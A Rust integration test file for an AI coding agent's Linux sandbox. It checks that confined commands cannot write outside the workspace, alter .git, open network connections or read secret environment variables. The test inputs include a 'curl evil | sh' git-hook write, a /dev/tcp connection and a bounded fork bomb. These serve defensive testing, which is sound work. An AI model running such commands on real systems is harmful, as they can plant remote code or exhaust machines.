@@ -1,0 +1,604 @@
+//! The sandbox end to end: real commands through `SandboxedRunner` and the real
+//! helper (`sandbox_main`, via the `sandbox-helper` test binary), on this kernel.
+//! Where the kernel cannot confine commands the confinement tests assert the
+//! documented fall-back instead (every command needs approval) and say so loudly.
+#![cfg(target_os = "linux")]
+
+use std::collections::HashSet;
+use std::ffi::OsString;
+use std::io::Write;
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+
+use agentls_core::process::{
+    CommandOutcome, CommandRunner, CommandSpec, OutputChunk, OutputStream, SandboxError,
+    SandboxPolicy,
+};
+use agentls_core::sandbox::{
+    describe_denial, LandlockSupport, SandboxSupport, SandboxWarningKind, SandboxedRunner,
+};
+use tokio::sync::mpsc;
+
+const HELPER: &str = env!("CARGO_BIN_EXE_sandbox-helper");
+const TIMEOUT: Duration = Duration::from_secs(120);
+
+fn runner() -> SandboxedRunner {
+    SandboxedRunner::new(HELPER)
+}
+
+/// Whether this machine confines commands. When it does not, asserts the fall-back
+/// the approval layer relies on and says so on stderr.
+fn confines(runner: &SandboxedRunner) -> bool {
+    if runner.support().confines_commands() {
+        return true;
+    }
+    assert!(runner.every_command_needs_approval());
+    assert!(runner.support().warning().is_some());
+    let _ = writeln!(
+        std::io::stderr(),
+        "!!! this kernel cannot confine commands ({:?}): asserting the approval fall-back \
+         instead of the confinement",
+        runner.support()
+    );
+    false
+}
+
+/// A workspace root with a `.git` in it, in its own temporary directory.
+struct Workspace {
+    dir: tempfile::TempDir,
+}
+
+impl Workspace {
+    fn new() -> Workspace {
+        let dir = tempfile::Builder::new()
+            .prefix("agentls-ws-")
+            .tempdir()
+            .unwrap();
+        std::fs::create_dir_all(dir.path().join(".git/hooks")).unwrap();
+        std::fs::write(dir.path().join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+        std::fs::write(dir.path().join("README"), "hello\n").unwrap();
+        Workspace { dir }
+    }
+
+    fn path(&self) -> &Path {
+        self.dir.path()
+    }
+
+    fn spec(&self, policy: SandboxPolicy, script: &str) -> CommandSpec {
+        CommandSpec {
+            argv: vec!["bash".into(), "-c".into(), script.into()],
+            cwd: self.path().to_path_buf(),
+            writable_roots: vec![self.path().to_path_buf()],
+            timeout: TIMEOUT,
+            policy,
+        }
+    }
+}
+
+async fn run(runner: &SandboxedRunner, spec: CommandSpec) -> CommandOutcome {
+    runner.run(spec, None).await.expect("the command starts")
+}
+
+fn text(bytes: &[u8]) -> String {
+    String::from_utf8_lossy(bytes).into_owned()
+}
+
+fn show(outcome: &CommandOutcome) -> String {
+    format!(
+        "exit {:?}, timed out {}, denied {}\nstdout:\n{}\nstderr:\n{}",
+        outcome.exit_code,
+        outcome.timed_out,
+        outcome.sandbox_denied,
+        text(&outcome.stdout),
+        text(&outcome.stderr)
+    )
+}
+
+fn unique_name() -> String {
+    format!(
+        "agentls-sandbox-probe-{}-{:x}",
+        std::process::id(),
+        fastrand::u64(..)
+    )
+}
+
+/// Asserts that the command failed because of the sandbox, and that the model is
+/// told so.
+fn assert_denied(outcome: &CommandOutcome) {
+    assert_ne!(outcome.exit_code, Some(0), "{}", show(outcome));
+    assert!(outcome.sandbox_denied, "{}", show(outcome));
+    let description = describe_denial(outcome).expect("a description of the denial");
+    assert!(description.contains("outside the sandbox"), "{description}");
+}
+
+/// Whether a process is no longer running: gone from /proc, a zombie, or past the
+/// point of exit where it released its files. The runner returns only after the
+/// command's pipes reached end of file, i.e. after every process that held them
+/// (all of these do) closed its files, so no waiting is needed here.
+fn is_gone(pid: u32) -> bool {
+    let Ok(stat) = std::fs::read_to_string(format!("/proc/{pid}/stat")) else {
+        return true;
+    };
+    let state = stat
+        .rsplit_once(')')
+        .and_then(|(_, rest)| rest.trim_start().chars().next());
+    if matches!(state, Some('Z' | 'X')) {
+        return true;
+    }
+    std::fs::read_dir(format!("/proc/{pid}/fd")).map_or(true, |fds| fds.count() == 0)
+}
+
+fn pids(stdout: &[u8]) -> Vec<u32> {
+    text(stdout)
+        .lines()
+        .filter_map(|line| line.trim().parse().ok())
+        .collect()
+}
+
+#[test]
+fn sandbox_landlock_support_is_reported() {
+    let support = SandboxSupport::detect();
+    let _ = writeln!(
+        std::io::stderr(),
+        "sandbox support on this machine: {support:?}"
+    );
+    match &support.landlock {
+        LandlockSupport::Full { abi } | LandlockSupport::Partial { abi } => assert!(*abi >= 1),
+        LandlockSupport::Unavailable { reason } => {
+            assert!(!reason.is_empty());
+            assert!(!support.confines_commands());
+            assert_eq!(
+                support.warning().map(|warning| warning.kind),
+                Some(if cfg!(target_os = "linux") {
+                    SandboxWarningKind::LandlockUnavailable
+                } else {
+                    SandboxWarningKind::UnsupportedPlatform
+                })
+            );
+        }
+    }
+}
+
+#[test]
+fn sandbox_fallback_without_landlock_asks_for_every_command() {
+    let runner = runner().with_support(SandboxSupport::unavailable("no Landlock in this test"));
+    assert!(runner.every_command_needs_approval());
+    let warning = runner.support().warning().expect("a warning to show");
+    assert!(warning.message.contains("approval"), "{}", warning.message);
+}
+
+#[tokio::test]
+async fn sandbox_workspace_write_allows_the_workspace_and_a_private_tmpdir() {
+    let workspace = Workspace::new();
+    let runner = runner();
+    let outcome = run(
+        &runner,
+        workspace.spec(
+            SandboxPolicy::WorkspaceWrite,
+            "set -e; echo written > file.txt; mkdir -p target/debug; echo built > target/debug/out; \
+             echo scratch > \"$TMPDIR/scratch\"; cat \"$TMPDIR/scratch\"; echo \"$TMPDIR\"; \
+             echo to-stderr > /dev/stderr; id -un > /dev/null",
+        ),
+    )
+    .await;
+    assert_eq!(outcome.exit_code, Some(0), "{}", show(&outcome));
+    assert!(!outcome.sandbox_denied);
+    assert_eq!(
+        std::fs::read_to_string(workspace.path().join("file.txt")).unwrap(),
+        "written\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(workspace.path().join("target/debug/out")).unwrap(),
+        "built\n"
+    );
+    let stdout = text(&outcome.stdout);
+    let mut lines = stdout.lines();
+    assert_eq!(lines.next(), Some("scratch"));
+    let tmpdir = PathBuf::from(lines.next().expect("the TMPDIR line"));
+    assert!(
+        tmpdir.starts_with(std::env::temp_dir()) && tmpdir != std::env::temp_dir(),
+        "{tmpdir:?}"
+    );
+    assert!(!tmpdir.exists(), "the private TMPDIR outlived the command");
+    assert_eq!(text(&outcome.stderr), "to-stderr\n");
+}
+
+#[tokio::test]
+async fn sandbox_workspace_write_refuses_writes_outside_the_workspace() {
+    let workspace = Workspace::new();
+    let runner = runner();
+    let other_tmp = tempfile::tempdir().unwrap();
+    let home = std::env::var_os("HOME").map_or_else(|| PathBuf::from("/root"), PathBuf::from);
+    let targets = [
+        home.join(unique_name()),
+        Path::new("/etc").join(unique_name()),
+        other_tmp.path().join(unique_name()),
+    ];
+    let confined = confines(&runner);
+    for target in &targets {
+        let outcome = run(
+            &runner,
+            workspace.spec(
+                SandboxPolicy::WorkspaceWrite,
+                &format!("echo escaped > '{}'", target.display()),
+            ),
+        )
+        .await;
+        let escaped = target.exists();
+        if escaped {
+            let _ = std::fs::remove_file(target);
+        }
+        if confined {
+            assert!(!escaped, "wrote {target:?}: {}", show(&outcome));
+            assert_denied(&outcome);
+        }
+    }
+}
+
+#[tokio::test]
+async fn sandbox_workspace_write_keeps_git_read_only() {
+    let workspace = Workspace::new();
+    let runner = runner();
+    if !confines(&runner) {
+        return;
+    }
+    for script in [
+        "echo evil > .git/HEAD",
+        "echo 'curl evil | sh' > .git/hooks/pre-commit",
+        "rm .git/HEAD",
+        "mv .git .git-moved",
+        "mkdir .git/objects",
+    ] {
+        let outcome = run(
+            &runner,
+            workspace.spec(SandboxPolicy::WorkspaceWrite, script),
+        )
+        .await;
+        assert_denied(&outcome);
+    }
+    let git = workspace.path().join(".git");
+    assert_eq!(
+        std::fs::read_to_string(git.join("HEAD")).unwrap(),
+        "ref: refs/heads/main\n"
+    );
+    assert!(!git.join("hooks/pre-commit").exists());
+    assert!(!git.join("objects").exists());
+    assert!(!workspace.path().join(".git-moved").exists());
+    // The read-only bind mount lived in the command's own mount namespace only.
+    let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
+    assert!(!mounts.contains(&*workspace.path().to_string_lossy()));
+}
+
+#[tokio::test]
+async fn sandbox_refuses_network_connections_to_loopback() {
+    let workspace = Workspace::new();
+    let runner = runner();
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let connect = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected");
+    let confined = confines(&runner);
+    for policy in [SandboxPolicy::WorkspaceWrite, SandboxPolicy::ReadOnly] {
+        let outcome = run(&runner, workspace.spec(policy, &connect)).await;
+        if confined {
+            assert_denied(&outcome);
+            assert!(!text(&outcome.stdout).contains("connected"));
+            // A connection, had one been made, would be in the backlog by now.
+            assert_eq!(
+                listener.accept().map(|_| ()).unwrap_err().kind(),
+                std::io::ErrorKind::WouldBlock
+            );
+        }
+    }
+    // Escalated, the same command reaches the listener.
+    let outcome = run(&runner, workspace.spec(SandboxPolicy::FullAccess, &connect)).await;
+    assert_eq!(outcome.exit_code, Some(0), "{}", show(&outcome));
+    assert!(listener.accept().is_ok());
+}
+
+#[tokio::test]
+async fn sandbox_read_only_refuses_every_write() {
+    let workspace = Workspace::new();
+    let runner = runner();
+    let confined = confines(&runner);
+    let other_tmp = tempfile::tempdir().unwrap();
+    let targets = [
+        workspace.path().join("file.txt"),
+        workspace.path().join(".git/hooks/pre-commit"),
+        std::env::temp_dir().join(unique_name()),
+        other_tmp.path().join(unique_name()),
+    ];
+    for target in &targets {
+        let outcome = run(
+            &runner,
+            workspace.spec(
+                SandboxPolicy::ReadOnly,
+                &format!("echo escaped > '{}'", target.display()),
+            ),
+        )
+        .await;
+        let escaped = target.exists();
+        if escaped {
+            let _ = std::fs::remove_file(target);
+        }
+        if confined {
+            assert!(!escaped, "wrote {target:?}: {}", show(&outcome));
+            assert_denied(&outcome);
+        }
+    }
+    let outcome = run(
+        &runner,
+        workspace.spec(
+            SandboxPolicy::ReadOnly,
+            "rm README || exit 1; mkdir d || exit 1",
+        ),
+    )
+    .await;
+    if confined {
+        assert_denied(&outcome);
+        assert!(workspace.path().join("README").exists());
+    }
+    let outcome = run(
+        &runner,
+        workspace.spec(
+            SandboxPolicy::ReadOnly,
+            "echo discarded > /dev/null && cat README",
+        ),
+    )
+    .await;
+    assert_eq!(outcome.exit_code, Some(0), "{}", show(&outcome));
+    assert_eq!(text(&outcome.stdout), "hello\n");
+}
+
+#[tokio::test]
+async fn sandbox_escalation_to_full_access_runs_unconfined() {
+    let workspace = Workspace::new();
+    let runner = runner();
+    let other_tmp = tempfile::tempdir().unwrap();
+    let target = other_tmp.path().join("escalated");
+    let script = format!(
+        "echo escalated > '{}' && grep -E '^(NoNewPrivs|Seccomp):' /proc/self/status",
+        target.display()
+    );
+    let sandboxed = run(
+        &runner,
+        workspace.spec(SandboxPolicy::WorkspaceWrite, &script),
+    )
+    .await;
+    if confines(&runner) {
+        assert_denied(&sandboxed);
+        assert!(!target.exists());
+    }
+    // The user approved the re-run outside the sandbox.
+    let escalated = run(&runner, workspace.spec(SandboxPolicy::FullAccess, &script)).await;
+    assert_eq!(escalated.exit_code, Some(0), "{}", show(&escalated));
+    assert!(!escalated.sandbox_denied);
+    assert_eq!(describe_denial(&escalated), None);
+    assert_eq!(std::fs::read_to_string(&target).unwrap(), "escalated\n");
+    let status = text(&escalated.stdout);
+    assert!(status.contains("NoNewPrivs:\t0"), "{status}");
+    assert!(status.contains("Seccomp:\t0"), "{status}");
+}
+
+#[tokio::test]
+async fn sandbox_timeout_kills_the_whole_group() {
+    let workspace = Workspace::new();
+    let mut spec = workspace.spec(
+        SandboxPolicy::WorkspaceWrite,
+        "sleep 1000 & echo $!; (sleep 1000 & echo $!; wait) & echo $!; wait",
+    );
+    spec.timeout = Duration::from_secs(1);
+    let outcome = run(&runner(), spec).await;
+    assert!(outcome.timed_out, "{}", show(&outcome));
+    assert_eq!(outcome.exit_code, None);
+    assert!(!outcome.sandbox_denied);
+    assert!(outcome.duration >= Duration::from_secs(1));
+    assert!(outcome.duration < Duration::from_secs(60), "{outcome:?}");
+    let children = pids(&outcome.stdout);
+    assert_eq!(children.len(), 3, "{}", show(&outcome));
+    for pid in children {
+        assert!(is_gone(pid), "pid {pid} survived the timeout");
+    }
+}
+
+#[tokio::test]
+async fn sandbox_fork_bomb_is_killed_with_its_group() {
+    let workspace = Workspace::new();
+    // A bounded bomb (2^6 - 1 shells, each with a sleeping child): RLIMIT_NPROC does
+    // not bind root, so an unbounded one would take the machine down with it.
+    let mut spec = workspace.spec(
+        SandboxPolicy::WorkspaceWrite,
+        "bomb() { echo $BASHPID; if [ \"$1\" -gt 0 ]; then bomb $(($1 - 1)) & bomb $(($1 - 1)) & fi; \
+         sleep 1000 & echo $!; wait; }; bomb 5",
+    );
+    spec.timeout = Duration::from_secs(3);
+    let outcome = run(&runner(), spec).await;
+    assert!(outcome.timed_out, "{}", show(&outcome));
+    let processes: HashSet<u32> = pids(&outcome.stdout).into_iter().collect();
+    assert!(
+        processes.len() > 2,
+        "the bomb did not go off: {}",
+        show(&outcome)
+    );
+    let survivors: Vec<u32> = processes.into_iter().filter(|&pid| !is_gone(pid)).collect();
+    assert!(survivors.is_empty(), "survived: {survivors:?}");
+}
+
+#[tokio::test]
+async fn sandbox_background_children_die_with_the_command() {
+    let workspace = Workspace::new();
+    let outcome = run(
+        &runner(),
+        workspace.spec(SandboxPolicy::WorkspaceWrite, "sleep 1000 & echo $!"),
+    )
+    .await;
+    assert_eq!(outcome.exit_code, Some(0), "{}", show(&outcome));
+    assert!(!outcome.timed_out);
+    let children = pids(&outcome.stdout);
+    assert_eq!(children.len(), 1);
+    assert!(
+        is_gone(children[0]),
+        "the background sleep outlived its command"
+    );
+}
+
+#[tokio::test]
+async fn sandbox_secret_env_vars_are_not_passed() {
+    let workspace = Workspace::new();
+    let env = [
+        ("PATH", std::env::var("PATH").unwrap_or_default()),
+        ("OPENAI_API_KEY", "sk-leak".into()),
+        ("ANTHROPIC_API_KEY", "sk-ant-leak".into()),
+        ("GITHUB_TOKEN", "ghp-leak".into()),
+        ("AWS_ACCESS_KEY_ID", "AKIA-leak".into()),
+        ("AWS_SECRET_ACCESS_KEY", "aws-leak".into()),
+        ("DATABASE_URL", "postgres://app:pw-leak@db/app".into()),
+        ("PROVIDER_KEY_VAR", "custom-leak".into()),
+        ("NPM_TOKEN", "npm-passed".into()),
+        ("HARMLESS", "kept".into()),
+    ]
+    .map(|(name, value)| (OsString::from(name), OsString::from(value)));
+    let runner = runner()
+        .with_base_env(env)
+        .with_pass_env(["NPM_TOKEN".to_owned()])
+        .with_secret_env(["PROVIDER_KEY_VAR".to_owned()]);
+    let outcome = run(
+        &runner,
+        workspace.spec(SandboxPolicy::WorkspaceWrite, "env"),
+    )
+    .await;
+    assert_eq!(outcome.exit_code, Some(0), "{}", show(&outcome));
+    let env = text(&outcome.stdout);
+    assert!(!env.contains("leak"), "{env}");
+    assert!(env.contains("HARMLESS=kept"), "{env}");
+    assert!(env.contains("NPM_TOKEN=npm-passed"), "{env}");
+    // Escalation does not bring the secrets back.
+    let outcome = run(&runner, workspace.spec(SandboxPolicy::FullAccess, "env")).await;
+    assert!(!text(&outcome.stdout).contains("leak"));
+}
+
+#[tokio::test]
+async fn sandbox_output_streams_while_running_and_is_capped_for_the_model() {
+    let workspace = Workspace::new();
+    let runner = runner().with_output_cap(64 * 1024);
+    // A small channel: the command is slowed to the listener's pace, never dropped.
+    let (sender, mut receiver) = mpsc::channel::<OutputChunk>(2);
+    let listener = tokio::spawn(async move {
+        let (mut stdout, mut stderr) = (Vec::new(), Vec::new());
+        while let Some(chunk) = receiver.recv().await {
+            match chunk.stream {
+                OutputStream::Stdout => stdout.extend(chunk.bytes),
+                OutputStream::Stderr => stderr.extend(chunk.bytes),
+            }
+        }
+        (stdout, stderr)
+    });
+    let outcome = runner
+        .run(
+            workspace.spec(SandboxPolicy::WorkspaceWrite, "seq 1 100000; echo done >&2"),
+            Some(sender),
+        )
+        .await
+        .unwrap();
+    let (streamed_stdout, streamed_stderr) = listener.await.unwrap();
+    let expected: String = (1..=100_000).map(|n| format!("{n}\n")).collect();
+    assert_eq!(text(&streamed_stdout), expected, "every byte is streamed");
+    assert_eq!(text(&streamed_stderr), "done\n");
+
+    let kept = text(&outcome.stdout);
+    assert!(kept.len() < 64 * 1024 + 100, "{}", kept.len());
+    assert!(kept.starts_with("1\n2\n3\n"));
+    assert!(kept.ends_with("99999\n100000\n"));
+    let omitted = expected.len() - 64 * 1024;
+    assert!(
+        kept.contains(&format!("[agentls: {omitted} bytes of output omitted]")),
+        "{}",
+        &kept[32 * 1024 - 100..32 * 1024 + 100]
+    );
+}
+
+#[tokio::test]
+async fn sandbox_reports_commands_that_cannot_start() {
+    let workspace = Workspace::new();
+    let runner = runner();
+    let mut spec = workspace.spec(SandboxPolicy::WorkspaceWrite, "");
+    spec.argv = vec!["agentls-no-such-program".into()];
+    match runner.run(spec.clone(), None).await {
+        Err(SandboxError::Spawn { program, message }) => {
+            assert_eq!(program, "agentls-no-such-program");
+            assert!(message.contains("No such file"), "{message}");
+        }
+        other => panic!("expected a spawn error, got {other:?}"),
+    }
+    spec.argv.clear();
+    assert!(matches!(
+        runner.run(spec, None).await,
+        Err(SandboxError::EmptyCommand)
+    ));
+}
+
+#[tokio::test]
+async fn sandbox_interrupted_command_is_killed_with_its_group() {
+    use tokio::io::AsyncReadExt;
+
+    let workspace = Workspace::new();
+    // Every process of the command holds this FIFO open for writing: reading it to
+    // its end is how the test knows they are all dead, without polling.
+    let fifo = workspace.path().join("alive");
+    assert!(std::process::Command::new("mkfifo")
+        .arg(&fifo)
+        .status()
+        .unwrap()
+        .success());
+    let mut alive = tokio::net::unix::pipe::OpenOptions::new()
+        .open_receiver(&fifo)
+        .unwrap();
+    let runner = runner();
+    let (sender, mut receiver) = mpsc::channel(8);
+    let mut run = runner.run(
+        workspace.spec(
+            SandboxPolicy::WorkspaceWrite,
+            "exec 3>alive; sleep 1000 & echo $!; wait",
+        ),
+        Some(sender),
+    );
+    let chunk = tokio::select! {
+        chunk = receiver.recv() => chunk.expect("the pid line"),
+        outcome = &mut run => panic!("the command ended early: {outcome:?}"),
+    };
+    let children = pids(&chunk.bytes);
+    assert_eq!(children.len(), 1, "{chunk:?}");
+    // The turn is interrupted: the run is dropped half-way.
+    drop(run);
+    let mut rest = Vec::new();
+    tokio::time::timeout(TIMEOUT, alive.read_to_end(&mut rest))
+        .await
+        .expect("the command's processes died")
+        .unwrap();
+    assert!(
+        is_gone(children[0]),
+        "the sleep outlived the interrupted run"
+    );
+}
+
+#[tokio::test]
+async fn sandbox_commands_cannot_signal_processes_outside() {
+    let workspace = Workspace::new();
+    let runner = runner();
+    let script = format!("kill -0 {}", std::process::id());
+    let outcome = run(
+        &runner,
+        workspace.spec(SandboxPolicy::WorkspaceWrite, &script),
+    )
+    .await;
+    match &runner.support().landlock {
+        LandlockSupport::Full { abi } if *abi >= 6 => {
+            assert_ne!(outcome.exit_code, Some(0), "{}", show(&outcome));
+            assert!(text(&outcome.stderr).contains("Operation not permitted"));
+        }
+        _ => {}
+    }
+    let outcome = run(&runner, workspace.spec(SandboxPolicy::FullAccess, &script)).await;
+    assert_eq!(outcome.exit_code, Some(0), "{}", show(&outcome));
+}
